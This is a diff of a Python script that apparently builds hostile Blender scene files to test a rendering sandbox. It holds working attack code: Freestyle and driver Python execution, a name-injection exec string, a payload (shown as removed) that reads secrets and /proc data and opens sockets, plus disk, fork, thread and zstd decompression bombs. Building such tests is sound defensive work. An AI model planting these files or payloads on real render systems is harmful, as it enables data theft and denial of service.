@@ -17,161 +17,31 @@ import bpy
 
 SCENES, LOOT, PORT, *CODE = sys.argv[sys.argv.index("--") + 1 :]
 GREEN = (0.0, 1.0, 0.0, 1.0)
-SECRET_TEXT, SECRET_IMAGE, SECRET_BLEND = (
-    os.path.join(LOOT, "secret." + kind) for kind in ("txt", "png", "blend")
-)
+SECRET_TEXT, SECRET_IMAGE, SECRET_BLEND = (os.path.join(LOOT, "secret." + kind) for kind in ("txt", "png", "blend"))
 
-PYTHON = CODE[0] if CODE else '''
-import os, re, resource, signal, socket, sys, time
-import bpy
-LOOT, PORT = %r, %s
-SECRET, NODE = LOOT + "/secret.txt", os.getppid()
-FRAME = sys.argv[sys.argv.index("-o") + 1]
 
-def after(option):
-    return sys.argv[sys.argv.index(option) + 1]
-
-def frame(number):
-    os.makedirs(os.path.dirname(FRAME), exist_ok=True)
-    return re.sub("#+", lambda run: "%%0*d" %% (len(run[0]), number), FRAME) + ".png"
-
-def write(path, mode="w"):
-    with open(path, mode) as file:
-        file.write("# hostile\\n")
-
-def child(work, wait):
-    pid = os.fork()
-    if pid == 0:
-        try:
-            for stream in range(3):
-                os.close(stream)
-            work()
-        except BaseException:
-            os._exit(1)
-        os._exit(0)
-    if wait and os.waitpid(pid, 0)[1]:
-        raise OSError("the child could not")
-
-def daemon():
-    os.setsid()
-    time.sleep(1)
-    write(LOOT + "/daemon")
-
-def listen():
-    server = socket.socket()
-    server.bind(("127.0.0.1", 0))
-    server.listen()
-
-def unlimit():
-    for limit in (resource.RLIMIT_AS, resource.RLIMIT_DATA, resource.RLIMIT_FSIZE):
-        resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
-
-def spare():
-    with open("/proc/self/oom_score_adj") as file:
-        score = int(file.read())
-    for new in (score + 1, score):
-        with open("/proc/self/oom_score_adj", "w") as file:
-            file.write(str(new))
-
-ATTEMPTS = {
-    "read": lambda: open(SECRET).read(),
-    "write": lambda: write(LOOT + "/written"),
-    "truncate": lambda: os.truncate(LOOT + "/truncated", 0),
-    "rename": lambda: os.rename(LOOT + "/renamed", LOOT + "/moved"),
-    "chmod": lambda: os.chmod(SECRET, 0o640),
-    "utime": lambda: os.utime(SECRET, (0, 0)),
-    "xattr": lambda: os.setxattr(SECRET, "user.hostile", b"1"),
-    "link": lambda: os.link(LOOT + "/secret.png", frame(2)),
-    "symlink": lambda: os.symlink(LOOT + "/secret.png", frame(3)),
-    "script": lambda: write(after("--python"), "a"),
-    "neighbour": lambda: open(os.path.dirname(bpy.data.filepath) + "/url.blend", "rb").read(),
-    "environ": lambda: open("/proc/%%d/environ" %% NODE, "rb").read(),
-    "memory": lambda: open("/proc/%%d/mem" %% NODE, "rb").close(),
-    "signal": lambda: os.kill(NODE, 0),
-    "network": lambda: socket.create_connection(("127.0.0.1", PORT), 2).close(),
-    "datagram": lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", PORT)),
-    "listen": listen,
-    "unix": lambda: socket.socket(socket.AF_UNIX).bind(b"\\0hostile-%%d" %% os.getpid()),
-    "fork": lambda: child(daemon, False),
-    "session": lambda: child(os.setsid, True),
-    "group": lambda: child(lambda: os.setpgid(0, 0), True),
-    "rlimit": unlimit,
-    "oom": spare,
-    "nice": lambda: os.nice(-1),
-}
-print("GOT python", flush=True)
-for name, attempt in ATTEMPTS.items():
-    try:
-        attempt()
-        print("GOT", name, flush=True)
-    except Exception as e:
-        print("no", name, repr(e), flush=True)
-''' % (LOOT, PORT)
-
-DISK = '''
-import os, sys
-folder = os.path.dirname(sys.argv[sys.argv.index("-o") + 1])
-os.makedirs(folder, exist_ok=True)
-for number in range(48):
-    with open("%s/%d.junk" % (folder, number), "wb") as file:
-        for _ in range(64):
-            file.write(b"x" * 2 ** 20)
-print("GOT disk", flush=True)
-'''
-
-SPARSE = '''
-import os, sys
-folder = os.path.dirname(sys.argv[sys.argv.index("-o") + 1])
-os.makedirs(folder, exist_ok=True)
-with open(folder + "/sparse.junk", "wb") as file:
-    file.truncate(2 ** 40)
-print("GOT sparse", flush=True)
-'''
-
-FORKS = '''
-import os, time
-for number in range(600):
-    if os.fork() == 0:
-        for stream in range(3):
-            os.close(stream)
-        time.sleep(4)
-        os._exit(0)
-print("GOT forks", flush=True)
-'''
-
-THREADS = '''
-import threading
-threading.stack_size(65536)
-end = threading.Event()
-try:
-    for number in range(5000):
-        threading.Thread(target=end.wait, daemon=True).start()
-    print("GOT threads", flush=True)
-finally:
-    end.set()
-'''
+def code(attack):
+    """Answers the Python that tries one thing, or for "all" whatever leaves Blender alive."""
+    if CODE:
+        return CODE[0]
+    with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "hostile_payload.py")) as file:
+        return "LOOT, PORT, ATTACK = %r, %s, %r\n" % (LOOT, PORT, attack) + file.read()
 
 
 def save(name):
     bpy.ops.wm.save_as_mainfile(filepath=os.path.join(SCENES, name), compress=False, relative_remap=False)
 
 
-def quick(scene):
-    """Makes a scene render in no time."""
+def fresh():
+    """Answers the scene of an empty Blender, cube, lamp, camera, that renders in no time."""
+    bpy.ops.wm.read_homefile(use_factory_startup=True)
+    scene = bpy.context.scene
     scene.render.engine = "CYCLES"
-    scene.cycles.samples = 1
-    scene.cycles.use_denoising = False
+    scene.cycles.samples, scene.cycles.use_denoising = 1, False
     scene.render.resolution_x = scene.render.resolution_y = 16
-    scene.render.resolution_percentage = 100
     scene.render.image_settings.file_format = "PNG"
     scene.view_settings.view_transform = "Standard"
     return scene
-
-
-def fresh():
-    """Answers the scene of an empty Blender: cube, lamp, camera."""
-    bpy.ops.wm.read_homefile(use_factory_startup=True)
-    return quick(bpy.context.scene)
 
 
 def emission(material, image=None):
@@ -213,42 +83,33 @@ def compositor(scene):
     return scene.node_tree, scene.node_tree.nodes.new("CompositorNodeComposite")
 
 
-def freestyle(scene, code=PYTHON):
+def freestyle(scene, attack="all"):
     """Lets Freestyle run Python while the scene renders, whatever -Y says."""
     text = bpy.data.texts.new("style.py")
-    text.write(code)
+    text.write(code(attack))
     scene.render.use_freestyle = True
     layer = scene.view_layers[0]
     layer.use_freestyle = True
     layer.freestyle_settings.mode = "SCRIPT"
     module = layer.freestyle_settings.modules.new()
-    module.script = text
-    module.use = True
+    module.script, module.use = text, True
     return layer
 
 
-def second_scene():
-    """Answers a scene like the one that renders, which only renders as a part of it."""
-    bpy.ops.scene.new(type="FULL_COPY")
-    scene = bpy.context.window.scene
-    scene.name = "Second"
-    bpy.context.window.scene = next(s for s in bpy.data.scenes if s != scene)
-    return scene
-
-
 def python_freestyle():
-    """GOT python and whatever it gets; a file for each code."""
-    codes = {"freestyle": PYTHON, "disk": DISK, "sparse": SPARSE, "forks": FORKS, "threads": THREADS}
-    for name, code in codes.items():
-        freestyle(fresh(), code)
-        save("python-%s.blend" % name)
+    """GOT python and whatever it gets; each bomb in a scene of its own, GOT disk and the like."""
+    for attack in ("freestyle", "disk", "sparse", "forks", "threads"):
+        freestyle(fresh(), attack)
+        save("python-%s.blend" % attack)
 
 
 def python_strip():
     """GOT python: from a scene in the sequencer."""
     scene = fresh()
-    second = second_scene()
+    bpy.ops.scene.new(type="FULL_COPY")
+    second = bpy.context.window.scene
     freestyle(second)
+    bpy.context.window.scene = scene
     editor = scene.sequence_editor_create()
     strips = editor.strips if hasattr(editor, "strips") else editor.sequences
     strips.new_scene("Second", second, 1, 1)
@@ -266,7 +127,7 @@ def python_linked():
         scene = fresh()
         with bpy.data.libraries.load(os.path.join(SCENES, "linked%s.blend" % kind), link=True) as (_, wanted):
             wanted.scenes = ["Second"]
-        bpy.data.texts.new("a").write(PYTHON)
+        bpy.data.texts.new("a").write(code("all"))
         tree, out = compositor(scene)
         layers = tree.nodes.new("CompositorNodeRLayers")
         layers.scene = wanted.scenes[0]
@@ -280,19 +141,14 @@ def python_animated():
     settings = freestyle(scene).freestyle_settings
     script = settings.bl_rna.properties["mode"].enum_items["SCRIPT"].value
     path = 'view_layers["%s"].' % scene.view_layers[0].name
-    drive(scene, path + "use_freestyle", 1)
-    drive(scene, path + "freestyle_settings.mode", script)
-    drive(scene, path + "freestyle_settings.modules[0].use", 1)
+    values = {"use_freestyle": 1, "freestyle_settings.mode": script, "freestyle_settings.modules[0].use": 1}
+    for name, value in values.items():
+        scene.driver_add(path + name).driver.expression = str(value)
     save("python-animated.blend")
 
 
-def drive(scene, path, value):
-    """Lets a driver set a value, at each frame."""
-    scene.driver_add(path).driver.expression = str(value)
-
-
 def by_name(layer, named):
-    """Lets Freestyle run Python in EDITOR mode: it puts names into code, and escapes a ' but not the \\ before it."""
+    """Lets Freestyle run Python in EDITOR mode, in which it puts names into code, and escapes a ' but not the \\ before it."""
     layer.freestyle_settings.modules.remove(layer.freestyle_settings.modules[0])
     layer.freestyle_settings.mode = "EDITOR"
     named.name = "\\',exec(__import__(\"bpy\").data.texts[0].as_string()))#"
@@ -311,16 +167,10 @@ def driver():
     fresh()
     bpy.data.objects["Cube"].driver_add("location", 0).driver.expression = "1111111111"
     save("driver.blend")
-    patch("driver.blend", b"1111111111\0", b"9**9**9**9\0")
-
-
-def patch(name, old, new):
-    """Changes a saved file, where Blender would act on the new value."""
-    with open(os.path.join(SCENES, name), "r+b") as file:
-        data = file.read()
-        assert data.count(old) == 1 and len(old) == len(new)
-        file.seek(data.index(old))
-        file.write(new)
+    # In the file, since Blender would work it out before it saves it.
+    with open(os.path.join(SCENES, "driver.blend"), "r+b") as file:
+        file.seek(file.read().index(b"1111111111\0"))
+        file.write(b"9**9**9**9")
 
 
 def image():
@@ -359,8 +209,8 @@ def file_output():
         node.file_output_items.new("RGBA", "Image")
     else:
         node.base_path, node.file_slots[0].path = LOOT, "fileoutput"
-    tree.links.new(layers.outputs["Image"], node.inputs[0])
-    tree.links.new(layers.outputs["Image"], out.inputs[0])
+    for end in (node, out):
+        tree.links.new(layers.outputs["Image"], end.inputs[0])
     save("fileoutput.blend")
 
 
@@ -412,8 +262,10 @@ def zstd_bomb():
         data = file.read()
     part, gigabyte = 2**17, 2**30
     # A block's head: code, length, address, struct, count; since 5.0 in another order, and wider.
-    old = not data.startswith(b"BLENDER17")
-    head = struct.pack("<4siQii", b"DATA", gigabyte, 1, 0, 1) if old else struct.pack("<4siQqq", b"DATA", 0, 1, gigabyte, 1)
+    if data.startswith(b"BLENDER17"):
+        head = struct.pack("<4siQqq", b"DATA", 0, 1, gigabyte, 1)
+    else:
+        head = struct.pack("<4siQii", b"DATA", gigabyte, 1, 0, 1)
     zeros = zstd([(1, part, b"\0")] * 256) * (gigabyte // (256 * part))
     end = data.rindex(b"ENDB")
     pieces = (data[start : min(start + part, end)] for start in range(0, end, part))
@@ -441,12 +293,8 @@ def secrets():
     bpy.ops.wm.save_as_mainfile(filepath=SECRET_BLEND)
 
 
-def main():
-    secrets()
-    for attack in (python_freestyle, python_strip, python_linked, python_animated, python_names, driver):
-        attack()
-    for attack in (image, movies, library, file_output, fluid, memory, zstd_bomb):
-        attack()
-
-
-main()
+secrets()
+for make in (python_freestyle, python_strip, python_linked, python_animated, python_names, image, movies, library):
+    make()
+for make in (file_output, fluid, driver, memory, zstd_bomb):
+    make()
